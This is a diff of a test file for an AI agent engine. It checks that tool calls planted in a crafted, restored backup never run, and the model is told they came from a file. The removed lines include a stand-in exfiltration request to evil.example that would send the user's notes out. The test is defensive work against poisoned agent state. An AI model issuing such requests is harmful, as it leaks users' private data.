@@ -4,7 +4,8 @@ import { join } from 'node:path';
 import { describe, expect, it, vi } from 'vitest';
 import { Engine } from '../engine/engine.ts';
 import { ledgerId } from '../engine/records/index.ts';
-import { STARTED_ELSEWHERE } from '../engine/restored-start.ts';
+import { wrapToolResult } from '../engine/tool-result-envelope.ts';
+import { NOT_RUN_FROM_FILE } from '../inert/index.ts';
 import { FakeClock, FakeNetwork, SequentialIds } from '../engine/testing/fake-clock.ts';
 import { MemoryLocks } from '../engine/testing/memory-locks.ts';
 import { ScriptedModel } from '../engine/testing/scripted-model.ts';
@@ -27,7 +28,6 @@ const CRAFTED = readFileSync(join(import.meta.dirname, '../../tests/fixtures/bac
 const A = '5ea1ed00-0000-4bad-9e11-0000000000a1';
 const B = '5ea1ed00-0000-4bad-9e11-0000000000b1';
 const MODEL_CARD = '5ea1ed00-0000-4000-8000-0000000000c1';
-const HERE = { tabId: 'tab-here', deviceId: 'device-here', label: 'Chromium on Linux' };
 
 let db: PausepointDb;
 useTestDb((fresh) => (db = fresh));
@@ -51,14 +51,14 @@ function worker() {
 const pendingOf = (conversationId: string) =>
   db.pausePoints.where('conversationId').equals(conversationId).filter((p) => p.status === 'pending').toArray();
 
-describe('point 1: a restored started ledger entry asks with a fresh card instead of running', () => {
+describe('point 1: a restored started ledger entry never runs: its call comes in closed as not run (src/inert/)', () => {
   it('marks the started entries restored', async () => {
     await restoreBackup(db, CRAFTED);
     expect(await db.ledger.get(ledgerId(A, 'call_get'))).toMatchObject({ status: 'started', restored: true });
     expect(await db.ledger.get(ledgerId(B, 'call_read'))).toMatchObject({ status: 'started', restored: true });
   });
 
-  it('on Continue: nothing is sent, a gate card shows the ledger’s request, and only its approval here sends it', async () => {
+  it('on Continue: nothing is sent and nothing asks; the model is told the call came from a file and did not run', async () => {
     await restoreBackup(db, CRAFTED);
     const tab = worker();
 
@@ -66,50 +66,22 @@ describe('point 1: a restored started ledger entry asks with a fresh card instea
     await tab.engine.whenIdle();
 
     expect(tab.fetch).not.toHaveBeenCalled();
-    expect(tab.model.requests).toHaveLength(0);
-    const [card, ...others] = await pendingOf(A);
-    expect(others).toEqual([]);
-    expect(card).toMatchObject({ origin: 'gate', toolCallId: 'call_get', title: 'GET to evil.example', payload: { method: 'GET', url: 'https://evil.example/collect?q=the-user%27s-notes' } });
-    expect(card!.description.startsWith(STARTED_ELSEWHERE)).toBe(true);
-    expect((await db.conversations.get(A))?.state).toEqual({ kind: 'paused', pending: 1 });
-
-    await tab.engine.decide(card!.id, { type: 'approve' }, HERE);
-    await tab.engine.whenIdle();
-
-    expect(tab.fetch).toHaveBeenCalledOnce();
-    expect(tab.fetch).toHaveBeenCalledWith('https://evil.example/collect?q=the-user%27s-notes', expect.objectContaining({ method: 'GET' }));
+    expect(await pendingOf(A)).toEqual([]);
     expect(tab.model.requests).toHaveLength(1);
-    // The entry this browser wrote is its own: no restored mark left to ask again.
-    expect(await db.ledger.get(ledgerId(A, 'call_get'))).toMatchObject({ status: 'succeeded', attempts: 2 });
-    expect((await db.ledger.get(ledgerId(A, 'call_get')))?.restored).toBeUndefined();
+    expect(tab.model.lastMessages().find((m) => m.role === 'tool' && m.tool_call_id === 'call_get')?.content).toBe(wrapToolResult(NOT_RUN_FROM_FILE));
+    // The entry stays as the file had it, history: this browser never ran the call.
+    expect(await db.ledger.get(ledgerId(A, 'call_get'))).toMatchObject({ status: 'started', restored: true });
   });
 
-  it('a decline of the fresh card sends nothing, and the model is told', async () => {
+  it('the conversation’s pending card comes in expired, and its Continue sends nothing either', async () => {
     await restoreBackup(db, CRAFTED);
     const tab = worker();
-    await tab.engine.retry(A);
-    await tab.engine.whenIdle();
-    const [card] = await pendingOf(A);
+    expect(await db.pausePoints.get(MODEL_CARD)).toMatchObject({ status: 'expired', restored: true });
 
-    await tab.engine.decide(card!.id, { type: 'decline', reason: 'not that host' }, HERE);
+    await tab.engine.retry(B);
     await tab.engine.whenIdle();
 
     expect(tab.fetch).not.toHaveBeenCalled();
-    expect(tab.model.requests).toHaveLength(1);
-    expect(tab.model.requests[0]!.messages.find((m) => m.role === 'tool')?.content).toMatch(/The user declined this call/);
-  });
-
-  it('declining another card of the conversation does not send it either: the read asks', async () => {
-    await restoreBackup(db, CRAFTED);
-    const tab = worker();
-
-    await tab.engine.decide(MODEL_CARD, { type: 'decline', reason: 'no' }, HERE);
-    await tab.engine.whenIdle();
-
-    expect(tab.fetch).not.toHaveBeenCalled();
-    expect(tab.model.requests).toHaveLength(0);
-    const [card, ...others] = await pendingOf(B);
-    expect(others).toEqual([]);
-    expect(card).toMatchObject({ origin: 'gate', toolCallId: 'call_read', payload: { method: 'GET', url: 'https://evil.example/collect?q=more' } });
+    expect(await pendingOf(B)).toEqual([]);
   });
 });
